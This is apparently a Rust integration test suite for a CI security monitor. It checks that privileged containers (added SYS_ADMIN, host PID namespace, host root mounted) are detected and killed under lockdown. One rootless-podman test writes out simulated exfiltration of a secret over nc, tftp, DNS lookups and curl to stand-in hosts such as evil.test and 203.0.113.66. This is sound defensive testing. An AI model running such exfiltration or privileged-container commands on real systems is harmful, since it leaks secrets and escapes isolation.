//! Privileged containers of runtimes with a configuration of the job's own, and of podman: K3, by what the kernel shows.

mod life;
mod privileged;

use anyhow::{Result, ensure};
use life::{Gate, Puppet, blocked_by};
use portcullis_tests::world::IMAGE;
use portcullis_tests::{JobOutcome, World, wait_for};
use privileged::{AUDIT, LOCKDOWN, found, wait_for_evidence};

/// A directory with the configuration of a container for `runc` or `crun`: it executes `program`, and `extra`, Python, makes
/// `c` of it.
fn bundle(gate: &Gate, program: &str, extra: &str) -> String {
    let image = gate.world.directory().join("image").display().to_string();
    format!(
        r#"rm -rf "$PUPPET/b" && mkdir -p "$PUPPET/b" && cd "$PUPPET/b" && sudo runc spec && sudo python3 - <<'END'
import json
c = json.load(open("config.json"))
c["root"] = {{"path": "{image}", "readonly": True}}
c["process"]["args"] = "{program}".split()
c["process"]["terminal"] = False
c["process"].pop("rlimits", None)
{extra}
json.dump(c, open("config.json", "w"))
END
"#
    )
}

const CAPABILITY: &str = r#"
for kind in c["process"]["capabilities"]: c["process"]["capabilities"][kind].append("CAP_SYS_ADMIN")"#;

const HOST_PID: &str = r#"
c["linux"]["namespaces"] = [n for n in c["linux"]["namespaces"] if n["type"] != "pid"]"#;

fn up_with_backend(backend: &str) -> Result<Gate> {
    let world = World::builder().engine().build()?;
    world.podman()?;
    world.write_configuration(&format!("[sensors]\nbackend = \"{backend}\"\n"))?;
    Gate::up(world, &[("policy", AUDIT)])
}

fn assert_none_found(gate: &Gate) -> Result<()> {
    let none: Vec<_> = found(gate)?.into_iter().map(|event| event.evidence).collect();
    ensure!(none.is_empty(), "{none:#?}");
    Ok(())
}

/// K3: runtimes with a configuration of the job's own, and podman. Nothing of Docker is there. Each container lives until it was
/// found; the twins are the configuration that `runc spec` writes, and a plain container of podman.
fn find_runtimes(backend: &str) -> Result<()> {
    let gate = up_with_backend(backend)?;
    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
    let id = gate.world.id();
    let runc = format!("sudo runc --root \"$PUPPET/r\" run {id}-runc");
    // crun refuses hosts that have cgroup v1 and v2 side by side, as this machine may: it sees the second only.
    let crun = format!(
        "sudo unshare --mount sh -c 'mount -t cgroup2 none /sys/fs/cgroup && exec crun --root \"$PUPPET/c\" \
         --cgroup-manager=disabled run {id}-crun'"
    );
    let plain = puppet.run(&format!("{}{runc}", bundle(&gate, "sleep 1", "")))?;
    ensure!(plain.succeeded(), "{plain:?}");
    assert_none_found(&gate)?;
    for (run, extra, word) in [
        (&runc, CAPABILITY, "SYS_ADMIN"),
        (&runc, HOST_PID, "host's pid namespace"),
        (&crun, HOST_PID, "host's pid namespace"),
    ] {
        let before = found(&gate)?.len();
        let script = bundle(&gate, "sleep 1000", extra);
        let begun = puppet.run(&format!("{script}{run} >\"$PUPPET/run\" 2>&1 & echo $!"))?;
        ensure!(begun.succeeded(), "{run}: {begun:?}");
        let found_it = wait_for("another finding", || {
            let found = found(&gate).ok()?;
            found.iter().skip(before).any(|event| event.evidence.contains(word)).then_some(())
        });
        found_it.map_err(|error| error.context(format!("{run}\n{}", gate.monitor.log())))?;
        let ended = puppet.run(&format!("{} KILL; wait", run.replace(" run ", " kill ")))?;
        ensure!(ended.succeeded(), "{run}: {ended:?}");
    }
    let parent = format!("--cgroup-parent /{id}/podman");
    let plain = puppet.run(&format!("sudo podman run --rm {parent} localhost/{IMAGE} sleep 1"))?;
    ensure!(plain.succeeded(), "{plain:?}");
    let before = found(&gate)?.len();
    let ran = puppet.run(&format!(
        "sudo podman run -d --name evil {parent} -v /:/host localhost/{IMAGE} sleep 1000"
    ))?;
    ensure!(ran.succeeded(), "{ran:?}");
    wait_for_evidence(&gate, "the host's / mounted")?;
    ensure!(found(&gate)?.len() == before + 1, "{:#?}", found(&gate)?);
    let removed = puppet.run("sudo podman rm -f -t 0 evil")?;
    ensure!(removed.succeeded(), "{removed:?}");
    let result = puppet.finish()?;
    gate.monitor.wait_until_idle()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    Ok(())
}

#[test]
fn runtimes_with_a_configuration_of_their_own_are_found() -> Result<()> {
    find_runtimes("bpf")
}

#[test]
fn runtimes_are_found_without_bpf() -> Result<()> {
    find_runtimes("procfs")
}

/// K3: a containerd that no Docker engine has started, as nerdctl has one, by its own client. Its containers are its children,
/// not the job's. The twin has what `ctr` gives to every one.
fn find_containerd(backend: &str) -> Result<()> {
    let world = World::builder().engine().build()?;
    let containerd = world.containerd()?;
    world.write_configuration(&format!("[sensors]\nbackend = \"{backend}\"\n"))?;
    let gate = Gate::up(world, &[("policy", AUDIT)])?;
    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
    let run = |name: &str, options: &str, command: &str| {
        format!("sudo {}", containerd.run(&gate.world, name, options, command))
    };
    let plain = puppet.run(&run("plain", "", "/bin/sleep 1"))?;
    ensure!(plain.succeeded(), "{plain:?}");
    assert_none_found(&gate)?;
    for (name, options, word) in [
        ("capability", "--cap-add CAP_SYS_ADMIN", "SYS_ADMIN"),
        ("root", "--mount type=bind,src=/,dst=/tmp,options=rbind:ro", "the host's / mounted"),
    ] {
        let before = found(&gate)?.len();
        let begun = run(name, options, "/bin/sleep 1000");
        let begun = puppet.run(&format!("{begun} >\"$PUPPET/run\" 2>&1 & echo $!"))?;
        ensure!(begun.succeeded(), "{name}: {begun:?}");
        let found_it = wait_for("another finding", || {
            let found = found(&gate).ok()?;
            found.iter().skip(before).any(|event| event.evidence.contains(word)).then_some(())
        });
        found_it.map_err(|error| {
            let said = puppet.run("cat \"$PUPPET/run\"");
            error.context(format!("{name}: {said:?}\n{}", gate.monitor.log()))
        })?;
        ensure!(found(&gate)?.len() == before + 1, "{:#?}", found(&gate)?);
    }
    let result = puppet.finish()?;
    gate.monitor.wait_until_idle()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    Ok(())
}

#[test]
fn containers_of_containerd_alone_are_found() -> Result<()> {
    find_containerd("bpf")
}

#[test]
fn containers_of_containerd_alone_are_found_without_bpf() -> Result<()> {
    find_containerd("procfs")
}

/// What a rootless engine makes has a user namespace of its own: whatever is asked for, it has no privileges over the host. What
/// it sends goes through a program of the job's, and is judged like the job's.
#[test]
fn rootless_containers_are_ordinary_and_judged() -> Result<()> {
    let world = World::builder().engine().build()?;
    world.rootless_podman(0)?;
    let gate = Gate::up(world, &[("policy", AUDIT)])?;
    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
    for options in ["", "--pid=host", "-v /:/host", "--cap-add SYS_ADMIN"] {
        let ran = puppet.run(&format!(
            "rootless-podman run --rm --network none {options} localhost/{IMAGE} sleep 1"
        ))?;
        ensure!(ran.succeeded(), "{options}: {ran:?}");
    }
    let network = "--network slirp4netns:enable_ipv6=true";
    let called = puppet.run(&format!(
        "rootless-podman run --rm {network} localhost/{IMAGE} curl -sS --max-time 10 -o /dev/null http://ok.test/"
    ))?;
    ensure!(called.succeeded(), "{called:?}\n{}", gate.monitor.log());
    let sent = puppet.run(&format!(
        "rootless-podman run --rm -e S {network} localhost/{IMAGE} sh -c '
for a in 203.0.113.66 2001:db8::66; do
    echo \"$S\" | nc -w 1 $a 4444
    echo \"$S\" >/tmp/s; timeout 1 tftp -p -l /tmp/s -r \"$S\" $a 4445
done
nslookup $S.evil.test; nslookup $S.evil.test 203.0.113.66
curl -sS --max-time 2 http://evil.test/$S
echo sent'"
    ))?;
    ensure!(sent.output.contains("sent"), "{sent:?}");
    let result = puppet.finish()?;
    gate.monitor.wait_until_idle()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    gate.assert_contained(&result)?;
    assert_none_found(&gate)?;
    let events = gate.last_events()?;
    ensure!(blocked_by(&events, "203.0.113.66", 4444, "slirp4netns"), "{events:#?}");
    Ok(())
}

/// A container that does nothing and ends at once is found all the same, each of many, and never one between them that has no
/// privileges: the kernel gives the numbers of its namespaces to the next.
#[test]
fn privileged_containers_are_found_however_short_they_live() -> Result<()> {
    const CONTAINERS: usize = 8;
    let gate = up_with_backend("bpf")?;
    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
    let id = gate.world.id();
    let runc = format!("sudo runc --root \"$PUPPET/r\" run {id}-runc");
    let (plain, evil) = (bundle(&gate, "true", ""), bundle(&gate, "true", CAPABILITY));
    for number in 0..CONTAINERS {
        let ran = puppet.run(&format!("{plain}{runc}"))?;
        ensure!(ran.succeeded(), "{ran:?}");
        ensure!(found(&gate)?.len() == number, "{:#?}", found(&gate)?);
        let ran = puppet.run(&format!("{evil}{runc}"))?;
        ensure!(ran.succeeded(), "{ran:?}");
        wait_for("the container to be found", || {
            (found(&gate).ok()?.len() == number + 1).then_some(())
        })
        .map_err(|error| error.context(format!("{number}\n{}", gate.monitor.log())))?;
    }
    let result = puppet.finish()?;
    gate.monitor.wait_until_idle()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    ensure!(found(&gate)?.len() == CONTAINERS, "{:#?}", found(&gate)?);
    Ok(())
}

/// Under Lockdown Mode the program of a privileged container does nothing: its job is dead before it goes on.
#[test]
fn a_privileged_container_of_a_runtime_does_nothing() -> Result<()> {
    let world = World::builder().engine().build()?;
    world.write_configuration("[sensors]\nbackend = \"bpf\"\n")?;
    let gate = Gate::up(world, &[("policy", LOCKDOWN)])?;
    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
    let id = gate.world.id();
    let made = puppet.run("mkdir -m 777 \"$PUPPET/mark\" && echo \"$PUPPET/mark\"")?;
    let mark = std::path::PathBuf::from(made.output.trim());
    let runc = format!("sudo runc --root \"$PUPPET/r\" run {id}-runc");
    let mount = format!(
        r#"
c["mounts"].append({{"destination": "/tmp", "type": "none", "source": "{}", "options": ["bind", "rw"]}})"#,
        mark.display()
    );
    let touch = |name: &str, extra: &str| {
        format!("{}{runc}", bundle(&gate, &format!("touch /tmp/{name}"), extra))
    };
    // The twin: what it does when it may.
    let ran = puppet.run(&touch("plain", &mount))?;
    ensure!(ran.succeeded() && mark.join("plain").exists(), "{ran:?}\n{}", gate.monitor.log());
    puppet.begin(&touch("evil", &format!("{mount}{CAPABILITY}")))?;
    let result = puppet.job.wait()?;
    gate.monitor.wait_until_idle()?;
    assert_eq!(result.outcome, JobOutcome::Failure, "{}", gate.monitor.log());
    let event = wait_for_evidence(&gate, "SYS_ADMIN")?;
    ensure!(event.is_lockdown, "{event:?}");
    ensure!(!mark.join("evil").exists(), "it did something before it was killed");
    Ok(())
}
